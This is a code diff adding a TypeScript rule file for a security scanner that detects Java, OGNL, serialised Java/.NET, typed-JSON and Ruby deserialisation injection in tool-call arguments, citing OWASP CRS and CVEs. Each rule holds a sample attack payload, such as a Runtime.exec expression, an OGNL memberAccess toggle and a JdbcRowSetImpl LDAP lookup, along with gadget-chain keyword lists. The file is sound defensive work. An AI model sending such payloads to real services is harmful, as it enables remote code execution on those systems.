@@ -1,0 +1,76 @@
+import type { PatternRule } from '../rule.ts';
+import { ALL_ROLES, DATA_ROLES, holdsData, isTalk } from './where.ts';
+
+/** Java, .NET and Ruby: deserialisation, reflection, expression languages of frameworks. */
+export const java: readonly PatternRule[] = [
+  {
+    id: 'code.java-runtime',
+    type: 'code_injection',
+    severity: 'high',
+    sees: "Java's means to start processes or load classes, in a value or expression",
+    positive: { tool: 'create_comment', arguments: { post_id: 12, body: '${T(java.lang.Runtime).getRuntime().exec("id")}' } },
+    nearMiss: { tool: 'create_issue', arguments: { title: 'java.lang.RuntimeException when the queue is empty' } },
+    source: 'OWASP CRS 944100, 944110',
+    roles: DATA_ROLES,
+    literals: [
+      ...['getruntime', 'java.lang.runtime', 'processbuilder', 'classloader', 'forname(', 'scriptenginemanager', 'java.lang.system', 'java.util.scanner', 'getdeclaredconstructor', 'getclass()', 'java.io.file', 'java.net.url', 'class.module', 'getmethod('],
+      ...['.execute()', 'newinstance(', 'java.lang.class', 'java.lang.process', 'class.getresource', 'new file(', 'org.apache.commons.io', 'groovy.util.eval', 'getengine'],
+    ],
+    pattern:
+      /java\.lang\.(?:Runtime\b|ProcessBuilder|ProcessImpl|System\b|Class\b|reflect\b|ClassLoader)|getRuntime\s*\(?\s*\)?\s*\.\s*exec|\bProcessBuilder\s*\(|javax\.script\.ScriptEngineManager|getEngineByName\s*\(|(?:\.class\b|getClass\s*\(\s*\)|\bclass)\s*[.|]?\s*\.?\s*(?:forName|getClassLoader|getDeclaredConstructors?|getMethod|getResource|module\.classLoader|classLoader|protectionDomain)|\bforName\s*\(\s*["']java|class(?:%2e|\.)module(?:%2e|\.)classloader|classloader\.loadClass\s*\(|\bnew\s+java\.(?:io|util|net|lang)\.\w+|new\s+File\s*\(\s*["'][^"'\n]{1,120}["']\s*\)\s*\.\s*(?:getText|text|delete|write|eachLine|list)|["'][\w ./-]{1,80}["']\s*\.\s*execute\s*\(\s*\)|groovy\.util\.Eval|org\.apache\.commons\.io\.IOUtils/i,
+    accepts: ({ 0: match }, view, at) => holdsData(view.place) && !isTalk(view, at, at + match.length),
+  },
+  {
+    id: 'code.ognl',
+    type: 'code_injection',
+    severity: 'critical',
+    sees: 'OGNL that reaches the context or static members (Struts, Confluence)',
+    positive: { tool: 'set_header', arguments: { value: "%{(#_memberAccess['allowStaticMethodAccess']=true)}" } },
+    nearMiss: { tool: 'set_header', arguments: { value: '%{host} %{status}' } },
+    source: 'CVE-2017-5638; OWASP CRS 944',
+    roles: ALL_ROLES,
+    literals: ['memberaccess', 'ognlcontext', 'ognlutil', '@java.lang', '(#context', '#context[', '#request[', 'xwork.', 'opensymphony', '#attr[', '#application', '#parameters', '@org.apache', '#cmd=', '#_='],
+    pattern: /#_?memberAccess|@?ognl\.Ognl(?:Context|Util)|@java\.(?:lang|io|util)\.\w+@|[#(]context\s*\[\s*["']|#(?:request|attr|application|parameters)\s*\[\s*["'][\w.]*(?:struts|xwork|opensymphony|valueStack)|com\.opensymphony\.xwork2?\.|@org\.apache\.[\w.]+@|\(#\w{1,12}\s*=\s*(?:new\s|@|["'])/i,
+    accepts: ({ 0: match }, view, at) => !isTalk(view, at, at + match.length) && (view.place.role !== 'code' || view.place.file === ''),
+  },
+  {
+    id: 'code.java-serialised',
+    type: 'code_injection',
+    severity: 'high',
+    sees: 'a serialised Java or .NET object, or a chain of gadgets for it',
+    positive: { tool: 'set_cookie', arguments: { value: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==' } },
+    nearMiss: { tool: 'set_cookie', arguments: { value: 'rOABXNyABFqYXZhLnV0aWw' } },
+    source: 'CWE-502; OWASP CRS 944200, 944210',
+    roles: ['path', 'url', 'host', 'markup', 'prose', 'address', 'value', 'secret', 'shell', 'powershell', 'cmd', 'code', 'sql'],
+    literals: ['ro0ab', 'kztaax', 'aced0005', '\u00ac\u00ed\u0000\u0005', '\\xac\\xed', 'aaeaaad', 'invokertransformer', 'templatesimpl', 'jdbcrowsetimpl', 'commonscollections', 'commonsbeanutils', 'typeconfusedelegate', 'objectdataprovider', 'windowsidentity', 'resourceset', '/wey', 'instantiatetransformer', 'constanttransformer', 'chainedtransformer', 'badattributevalueexp', 'jrmpclient', 'jrmplistener', 'drivermanagerconnectionsource', 'jndirefforwardingdatasource', 'beanfactory', 'xmldecoder'],
+    pattern:
+      /(?:^|[^A-Za-z0-9+/])(?:rO0AB[A-Za-z0-9+/]{6}|KztAAX[A-Za-z0-9+/]{4}|AAEAAAD\/{3,6})|aced0005(?:7[0-9a-f])|\u00ac\u00ed\u0000\u0005|\\xac\\xed\\x00\\x05|(?:functors\.)(?:InvokerTransformer|InstantiateTransformer|ConstantTransformer|ChainedTransformer)|xalan\.(?:internal\.)?xsltc\.trax\.TemplatesImpl|com\.sun\.rowset\.JdbcRowSetImpl|ysoserial[^\n]{0,60}(?:CommonsCollections|CommonsBeanutils|JRMP|URLDNS|Groovy|Spring)|System\.Windows\.Data\.ObjectDataProvider|TypeConfuseDelegate|java\.beans\.XMLDecoder|DriverManagerConnectionSource|BadAttributeValueExpException|(?:^|["'\s])CommonsCollections[1-7]\b|(?:^|[^A-Za-z0-9+/])\/wEy[A-Za-z0-9+/]{12}/i,
+    accepts: ({ 0: match }, view, at) => !isTalk(view, at, at + match.length) && view.place.file === '' && !(/^[^A-Za-z0-9]?(?:ro0ab|kztaax|aaeaaad)/i.test(match) && !/rO0AB|KztAAX|AAEAAAD\//.test(match)),
+  },
+  {
+    id: 'code.typed-json',
+    type: 'code_injection',
+    severity: 'high',
+    sees: 'JSON or XML that names a class to build (fastjson, Jackson, Json.NET, XStream)',
+    positive: { tool: 'import_settings', arguments: { value: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7/x"}' } },
+    nearMiss: { tool: 'import_settings', arguments: { value: '{"@type":"Person","name":"Kim"}' } },
+    source: 'CVE-2017-18349; CVE-2021-39144',
+    roles: ALL_ROLES,
+    literals: ['@type', '$type', 'dynamic-proxy', 'java.beans.eventhandler', '<sorted-set', 'java.util.priorityqueue', 'eventhandler'],
+    pattern: /["']@type["']\s*:\s*["'](?:com\.sun\.|java\.(?:lang|net|rmi|io)\.|javax\.|org\.apache\.|ch\.qos\.|sun\.)|["']\$type["']\s*:\s*["'](?:System\.(?:Windows|Diagnostics|Configuration|Data|Web|IO|Management|Security|Activities)\.|Microsoft\.VisualStudio)|<dynamic-proxy>|class\s*=\s*["']java\.beans\.EventHandler/i,
+    accepts: (_match, { place }) => place.role !== 'code' || place.file === '',
+  },
+  {
+    id: 'code.ruby-serialised',
+    type: 'code_injection',
+    severity: 'high',
+    sees: 'a marshalled Ruby object, or Ruby that evaluates text in a value',
+    positive: { tool: 'set_cookie', arguments: { value: 'BAhvOhVHZW06OlJlcXVpcmVtZW50' } },
+    nearMiss: { tool: 'set_cookie', arguments: { value: 'BAhJIgp0ZXN0' } },
+    source: 'PayloadsAllTheThings, Insecure Deserialization, Ruby',
+    roles: ['path', 'url', 'markup', 'prose', 'value', 'secret', 'address', 'host'],
+    literals: ['bahv', 'bahb', 'bahjyw', '\u0004\bo:', '\\x04\\x08', '0408', 'gem::requirement', 'gem::installer', 'erb.new', 'activesupport::deprecation'],
+    pattern: /(?:^|[^A-Za-z0-9+/])BAh(?:v[A-Za-z0-9+/]{8}|bC[A-Za-z0-9+/]{8})|\u0004\bo:|\\x04\\x08\[?o:?|(?:^|[^0-9a-f])04085b0[68]|Gem::(?:Requirement|Installer|Package|StubSpecification)|ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy|ERB\.new\s*\(/,
+    accepts: ({ 0: match }, view, at) => !isTalk(view, at, at + match.length),
+  },
+];
